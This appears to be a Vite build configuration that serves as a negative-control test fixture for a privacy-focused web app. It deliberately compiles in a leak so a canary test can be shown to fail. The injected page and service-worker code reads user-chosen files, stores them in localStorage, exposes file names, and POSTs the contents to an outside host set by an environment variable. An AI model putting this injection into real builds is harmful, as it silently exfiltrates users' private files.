/**
 * The production build with a deliberate leak compiled in, the proof that the canary test can fail: it hands every
 * chosen file and its name to the service worker, which sends them on, and leaves them where nothing may be kept.
 */
import { appendFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { defineConfig, type Plugin } from 'vite';
import { obscura } from '../../vite.config';

const inPage = `
document.addEventListener('change', async (event) => {
  for (const file of [...(event.target.files ?? [])]) {
    const bytes = await file.text();
    console.info('chosen ' + file.name);
    localStorage.setItem(file.name, bytes.slice(0, 50000));
    navigator.serviceWorker.controller?.postMessage({ type: 'leak', text: file.name + bytes.slice(0, 50000) });
    const click = HTMLAnchorElement.prototype.click;
    HTMLAnchorElement.prototype.click = function () {
      if (this.download) this.download = file.name;
      click.call(this);
    };
  }
}, true);
`;

const inServiceWorker = `
self.addEventListener('message', ({ data }) => {
  if (data?.type !== 'leak') return;
  self.fetch(OTHER + '/leak', { method: 'POST', mode: 'no-cors', body: data.text });
  self.fetch('./?leak=' + encodeURIComponent(data.text.slice(0, 60)));
});
`;

let dist = '';
const leak: Plugin = {
  name: 'obscura:leak',
  configResolved: ({ root, build }) => void (dist = resolve(root, build.outDir)),
  transform: (code, id) => (/\/src\/main\.ts$/.test(id) ? code + inPage : null),
  // The service worker has been written by then.
  closeBundle: () =>
    appendFileSync(
      join(dist, 'service-worker.js'),
      inServiceWorker.replace('OTHER', JSON.stringify(process.env.OTHER ?? '')),
    ),
};

const config = obscura();
export default defineConfig({ ...config, plugins: [...(config.plugins ?? []), leak] });
